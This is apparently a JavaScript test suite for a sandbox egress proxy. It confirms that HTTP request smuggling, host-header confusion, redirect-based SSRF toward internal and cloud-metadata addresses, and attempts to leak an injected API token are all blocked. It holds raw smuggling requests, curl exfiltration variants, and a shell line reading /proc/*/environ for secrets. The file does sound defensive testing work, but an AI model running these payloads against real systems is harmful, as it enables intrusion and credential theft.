// tests/escape/egress_web.test.js: what requests say on their way out: past the
// rule of a host, by an answer that leads elsewhere, with another's secret.
'use strict';

const assert = require('node:assert');
const fs = require('node:fs');
const path = require('node:path');
const { before, describe, test } = require('node:test');

const { attack, clear, far, inOwnNetwork, inside, named, packets, PLAIN,
	policy, reached, run, show, start, state, TLS, told, v4, work } =
	require('./lib/far.js');

inOwnNetwork(__filename);

// A host with rules about its paths, and one beside it, at the same address,
// that may be told anything.
function twoHosts(free = false) {
	const both = { ca: far.ca, addrs: ['93.184.216.34/32'] };

	return policy([
		{ host: 'api.test', port: PLAIN, ...!free && { paths: ['/ok/**'] },
			addrs: both.addrs },
		{ host: 'open.test', port: PLAIN, paths: ['/**'], addrs: both.addrs },
		{ host: 'api.test', port: TLS, paths: free ? ['/**'] : ['/ok/**'],
			...both },
		{ host: 'open.test', port: TLS, paths: ['/**'], ...both },
	]);
}

// What must not arrive: anything for api.test that is not below /ok.
const forbidden = () => told.filter((q) =>
	q.host.toLowerCase().startsWith('api.test') && !q.url.startsWith('/ok/'));

if (inside) describe('53: two names of one host', () => {
	const crlf = '\r\n';
	const lines = (...list) => list.join(crlf) + crlf + crlf;
	const raws = [
		lines('GET /secret HTTP/1.1', 'Host: api.test:8080'),
		lines('GET /secret HTTP/1.1', 'Host: open.test:8080',
			'Host: api.test:8080'),
		lines('GET /secret HTTP/1.1', 'Host: api.test:8080',
			'Host: open.test:8080'),
		lines('GET /secret HTTP/1.1', 'Host : api.test:8080',
			'Host: open.test:8080'),
		lines('GET /secret HTTP/1.1', 'Host: open.test:8080',
			' api.test:8080'),
		lines('GET http://api.test:8080/secret HTTP/1.1',
			'Host: open.test:8080'),
		lines('GET http://open.test:8080/secret HTTP/1.1',
			'Host: api.test:8080'),
		lines('GET http://open.test:8080@api.test:8080/secret HTTP/1.1',
			'Host: open.test:8080'),
		lines('GET /secret HTTP/1.1', 'Host: open.test:8080@api.test:8080'),
		lines('GET /secret HTTP/1.1', 'Host: api.test:8080#open.test:8080'),
		lines('GET /secret HTTP/1.1', 'Host: api.test:8080\0.open.test:8080'),
		lines('GET /secret HTTP/1.1', 'Host: open.test:8080\rHost: api.test'),
		lines('GET /secret HTTP/1.1', 'Host: open.test:8080\nHost: api.test'),
		lines('GET /secret HTTP/1.1', 'Host: api.test.:8080'),
		lines('GET /secret HTTP/1.1', 'Host: API.TEST:8080'),
		lines('GET /secret HTTP/1.1', 'Host: %61pi.test:8080'),
		lines('GET /secret HTTP/1.1', 'Host: api.test:8080:80'),
		lines('GET /secret HTTP/1.0'),
		lines('GET /secret HTTP/1.1', 'X-Forwarded-Host: api.test',
			'Host: api.test:8080'),
		lines('CONNECT api.test:8080 HTTP/1.1', 'Host: api.test:8080') +
			lines('GET /secret HTTP/1.1', 'Host: api.test:8080'),
		lines('GET /ok/a HTTP/1.1', 'Host: open.test:8080') +
			lines('GET /secret HTTP/1.1', 'Host: api.test:8080'),
		lines('POST /ok/a HTTP/1.1', 'Host: open.test:8080',
			'Content-Length: 6', 'Transfer-Encoding: chunked') + '0' + crlf +
			crlf + lines('GET /secret HTTP/1.1', 'Host: api.test:8080'),
		lines('POST /ok/a HTTP/1.1', 'Host: open.test:8080',
			'Transfer-Encoding: chunked, identity') + '0' + crlf + crlf +
			lines('GET /secret HTTP/1.1', 'Host: api.test:8080'),
		lines('POST /ok/a HTTP/1.1', 'Host: open.test:8080',
			'Content-Length: 0', 'Content-Length: 60') +
			lines('GET /secret HTTP/1.1', 'Host: api.test:8080'),
		lines('POST /ok/a HTTP/1.1', 'Host: open.test:8080',
			'Content-Length: +0') +
			lines('GET /secret HTTP/1.1', 'Host: api.test:8080'),
		lines('POST /ok/a HTTP/1.1', 'Host: open.test:8080',
			'Transfer-Encoding: chunked') + '0;a=' + '\n' + crlf + crlf +
			lines('GET /secret HTTP/1.1', 'Host: api.test:8080'),
		lines('GET /ok/../secret HTTP/1.1', 'Host: api.test:8080'),
		lines('GET /ok/%2e%2e/secret HTTP/1.1', 'Host: api.test:8080'),
		lines('GET //secret HTTP/1.1', 'Host: api.test:8080'),
	];
	const attempts = raws.flatMap((raw) => ['api.test', 'open.test'].flatMap(
		(to) => ['direct', 'connect', 'socks'].map((door) =>
			({ door, to, port: PLAIN, raw, as_name: true }))).concat([
		{ door: 'absolute', to: 'api.test:8080', path: '/secret',
			host: 'open.test:8080' },
		{ door: 'absolute', to: 'open.test:8080', path: '/secret',
			host: 'api.test:8080' },
		{ door: 'connect', to: 'open.test', port: PLAIN,
			authority: 'api.test:8080', raw },
		{ door: 'connect', to: 'api.test', port: PLAIN,
			authority: 'open.test:8080', raw },
	]));

	// HTTP/1.1 and HTTP/2 within TLS, with every mixture of what was asked
	// for, what the hello says, and what the request says.
	const mixtures = `
const http2 = require('http2'), net = require('net'), tls = require('tls');
const names = ['api.test', 'open.test'];
function dial(to, sni, alpn) {
	return new Promise((done, no) => {
		const raw = net.connect(3128, '127.0.0.1');
		raw.setTimeout(4000, () => raw.destroy());
		raw.on('error', no).on('close', () => no(Error('closed')));
		raw.write('CONNECT ' + to + ':8443 HTTP/1.1\\r\\nHost: ' + to +
			':8443\\r\\n\\r\\n');
		raw.once('data', (d) => {
			if (!String(d).startsWith('HTTP/1.1 200')) return no(Error(d));
			const s = tls.connect({ socket: raw, servername: sni,
				ALPNProtocols: alpn, rejectUnauthorized: false });
			s.on('secureConnect', () => done(s)).on('error', no);
		});
	});
}
async function one(to, sni, host) {
	const s = await dial(to, sni, ['http/1.1']);
	s.write('GET /secret HTTP/1.1\\r\\nHost: ' + host + ':8443\\r\\n\\r\\n');
	await new Promise((done) => s.once('data', done).on('close', done));
	s.destroy();
}
async function two(to, sni, head) {
	const s = await dial(to, sni, ['h2']);
	const c = http2.connect('https://' + to + ':8443',
		{ createConnection: () => s });
	c.on('error', () => undefined);
	const q = c.request({ ':path': '/secret', ...head });
	await new Promise((done) => q.on('error', done).on('close', done)
		.on('response', () => q.close()).resume());
	c.destroy();
}
(async () => {
	for (const to of names) for (const sni of [...names, ''])
		for (const host of names) {
			for (const head of [{ ':authority': host + ':8443' },
				{ ':authority': 'open.test:8443', host: host + ':8443' },
				{ ':authority': to + ':8443', host: host + ':8443' }])
				await two(to, sni, head).catch((e) => undefined);
			await one(to, sni, host).catch((e) => undefined);
		}
	console.log('done');
	process.exit(0);
})();
`;

	test('whatever a request says twice, no rule is passed', async () => {
		far.zone = (name, type) => type === 1 ? [[1, v4('93.184.216.34')]] : [];
		await attack(attempts, twoHosts());
		assert.deepEqual(forbidden(), []);
		assert.ok(told.some((q) => q.host === 'open.test'));
	});

	test('nor within TLS, by the hello, HTTP/1.1 or HTTP/2', async () => {
		clear();
		fs.writeFileSync(path.join(work, 'mix.cjs'), mixtures);
		const r = await run(twoHosts(), process.execPath, 'mix.cjs');

		assert.match(r.out, /done/, r.err);
		assert.deepEqual(forbidden(), []);
		assert.ok(told.some((q) => q.host === 'open.test' &&
			q.headers[':path'] === '/secret'), 'HTTP/2');
		assert.ok(told.some((q) => q.host === 'open.test' &&
			q.headers[':path'] === undefined), 'HTTP/1.1');
	});

	test('control: outside it arrives, and inside where it is allowed',
		async () => {
			await attack([{ door: 'direct', to: '93.184.216.34', port: PLAIN,
				raw: raws[0] }]);
			assert.equal(forbidden().length, 1);
			await attack(['direct', 'connect', 'socks'].map((door) =>
				({ door, to: 'api.test', port: PLAIN, raw: raws[0] })),
			twoHosts(true));
			assert.equal(forbidden().length, 3);
			clear();
			await run(twoHosts(true), process.execPath, 'mix.cjs');
			assert.ok(forbidden().length >= 2);
		});
});

if (inside) describe('54: answers that lead elsewhere', () => {
	const targets = ['http://10.1.2.3/', 'http://169.254.169.254/latest',
		'http://a-10-1-2-3.in.test/', 'http://2852039166/', '//10.1.2.3/',
		'http://a-127-0-0-1.in.test/', 'http://evil.test/',
		'http://api.test:8080/secret', 'http://api.test:8080@10.1.2.3/',
		'http://[::ffff:a9fe:a9fe]/', 'http://93.184.216.34/'];
	const lead = (name, type) => named(name, type).length > 0
		? named(name, type) : type === 1 ? [[1, v4('93.184.216.34')]] : [];
	const script = (base, list = targets) => list.map((t) => 'curl -gsSL -m 5 --proto-redir ' +
		`=http,https "${base}/ok/moved?${encodeURIComponent(t)}"; `).join('');
	const rules = () => {
		const p = twoHosts();

		p.egress.rules.push({ host: '*.in.test' });
		return p;
	};

	test('a redirect is a request like any other', async () => {
		far.zone = lead;
		clear();
		const r = await run(rules(), 'sh', '-c',
			script(`http://api.test:${PLAIN}`) +
			script(`https://api.test:${TLS}`));

		assert.equal(told.length, 2 * targets.length, r.out + r.err);
		assert.ok(told.every((q) => q.url.startsWith('/ok/moved')));
		assert.deepEqual(reached, []);
	});

	test('an upgrade that no rule is about does not happen, nor QUIC',
		async () => {
			far.zone = lead;
			for (const name of ['websocket', 'h2c', 'TLS/1.0', 'connect-udp']) {
				const got = await attack(['direct', 'connect'].map((door) => ({
					door, to: 'api.test', port: PLAIN,
					raw: 'GET /ok/up HTTP/1.1\r\nHost: api.test:8080\r\n' +
						`Connection: Upgrade, HTTP2-Settings\r\nUpgrade: ${name}` +
						'\r\nHTTP2-Settings: AAMAAABk\r\nSec-WebSocket-Key: ' +
						'dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13' +
						'\r\n\r\n' })), rules());

				assert.ok(!told.some((q) => q.upgraded), name + show(got));
				assert.ok(got.every((a) => !a.got.includes(' 101 ')),
					show(got));
			}
			clear();
			await run(rules(), 'sh', '-c', 'for i in 1 2; do curl -gsS -m 5 ' +
				`--alt-svc f https://api.test:${TLS}/ok/a; done`);
			assert.deepEqual(packets, []);
			assert.ok(told.every((q) => q.host === 'api.test'));
		});

	test('control: outside a redirect is followed, and an upgrade happens',
		async () => {
			clear();
			const base = `http://93.184.216.34:${PLAIN}`;

			await start('sh', ['-c', script(base, targets.slice(0, 2))]);
			assert.ok(reached.some((q) => q.at === '10.1.2.3'));
			assert.ok(reached.some((q) => q.at === '169.254.169.254'));
			const got = await attack([{ door: 'direct', to: '93.184.216.34',
				port: PLAIN, raw: 'GET /ok/up HTTP/1.1\r\nHost: a\r\n' +
					'Connection: Upgrade\r\nUpgrade: websocket\r\n\r\n' }]);

			assert.match(got[0].got, / 101 /);
			assert.ok(told.some((q) => q.upgraded));
		});
});

if (inside) describe('55: a secret, and where it must not get', () => {
	const value = 'tk_live_0123456789abcdefXYZ';
	const readable = [value, Buffer.from(value).toString('base64'),
		Buffer.from(`Bearer ${value}`).toString('base64'),
		Buffer.from(value).toString('hex'), encodeURIComponent(value),
		[...value].reverse().join('')];
	const document = (inject) => {
		const p = twoHosts();

		p.egress.rules.push({ host: 'api.test', port: TLS, proto: 'https',
			methods: ['GET'], paths: ['/ok/tickets/**'], ca: far.ca,
			addrs: ['93.184.216.34/32'], secrets: ['TICKETS'] });
		p.secrets = { TICKETS: { from: 'file:tickets.key',
			env: 'TICKETS_TOKEN', inject } };
		return p;
	};
	const bearer = { header: 'authorization', format: 'Bearer {}' };
	const holds = (text) => readable.filter((s) => text.includes(s));
	const api = `https://api.test:${TLS}`, open = `https://open.test:${TLS}`;
	const auth = '-H "Authorization: Bearer $TICKETS_TOKEN"';
	// What a request holds but for the place of the secret, if it may have it.
	const elsewhere = (q, inject) => {
		const may = q.host === 'api.test' && q.method === 'GET' &&
			/^\/ok\/tickets\/[^/]+$/.test(q.url);
		const { authorization, ...headers } = q.headers;
		const own = (url) => url?.replace(`key=${value}`, '');

		if (!may)
			return q;
		if (inject.header !== undefined)
			return { ...q, headers };
		return { ...q, url: own(q.url), headers: { ...q.headers,
			':path': own(headers[':path']) } };
	};
	// Each with the placeholder, where the secret does not belong.
	const wrong = [
		`${auth} ${open}/ok/tickets/1`, // another host
		`${auth} http://api.test:${PLAIN}/ok/tickets/1`, // without TLS
		`${auth} http://open.test:${PLAIN}/ok/tickets/1`,
		`${auth} ${api}/ok/other`, // another path
		`${auth} -X POST -d x ${api}/ok/tickets/1`, // another method
		`${auth} ${api}/ok/tickets/../other --path-as-is`,
		`${auth} ${api}/ok/tickets%2f..%2fother`,
		`${api}/ok/tickets/$TICKETS_TOKEN`, // another place
		`"${api}/ok/tickets/1?token=$TICKETS_TOKEN"`,
		`-H "X-Token: $TICKETS_TOKEN" ${api}/ok/tickets/1`,
		`-H "Cookie: t=$TICKETS_TOKEN" ${api}/ok/tickets/1`,
		`-X GET -d "$TICKETS_TOKEN" ${api}/ok/tickets/1`,
		`-H "Authorization: Basic $(printf %s "$TICKETS_TOKEN" | base64)" ` +
			`${api}/ok/tickets/1`, // encoded: it stands for nothing
		`-u "x:$TICKETS_TOKEN" ${open}/ok/tickets/1`,
		`-L --location-trusted ${auth} "${api}/ok/moved?` +
			`${encodeURIComponent(`${open}/ok/tickets/1`)}"`,
		`${auth} -H "Host: open.test:${TLS}" ${api}/ok/tickets/1`,
		`${auth} --connect-to api.test:${TLS}:open.test:${TLS} ` +
			`${api}/ok/tickets/1`,
		`${auth} -x "" --resolve api.test:${TLS}:93.184.216.34 -k ` +
			`${api}/ok/other`,
		`-d "$TICKETS_TOKEN" ${open}/x`, `"${open}/x?$TICKETS_TOKEN"`,
		`--http2 ${auth} ${open}/ok/tickets/1`,
	];

	before(() => {
		fs.mkdirSync(path.join(state, 'secrets'), { recursive: true });
		fs.writeFileSync(path.join(state, 'secrets', 'tickets.key'), value,
			{ mode: 0o600 });
		far.zone = (name, type) => type === 1 ? [[1, v4('93.184.216.34')]] : [];
	});

	test('it goes to no other host, path, method or place', async () => {
		for (const inject of [bearer, { query: 'key' }]) {
			clear();
			const r = await run(document(inject), 'sh', '-c', wrong.map((w) =>
				`curl -gsS -m 5 ${w};`).join('\n'));

			assert.ok(told.length >= 8, r.out + r.err);
			for (const q of told)
				assert.deepEqual(holds(
					JSON.stringify(elsewhere(q, inject))), [],
					JSON.stringify(q));
			assert.deepEqual(holds(r.out + r.err), []);
		}
	});

	test('the sandbox never has it, not even when the server says it',
		async () => {
			clear();
			const r = await run(document(bearer), 'sh', '-c',
				`curl -gsS -m 5 ${auth} ${api}/ok/tickets/1; env; ` +
				'cat /proc/*/environ /proc/*/cmdline 2>/dev/null; ' +
				'cat /run/paddock/* 2>/dev/null; set');

			// The control: there it goes.
			assert.equal(told[0].headers.authorization, `Bearer ${value}`);
			assert.match(r.out, /ARRIVED/);
			assert.deepEqual(holds(r.out + r.err), []);
		});
});
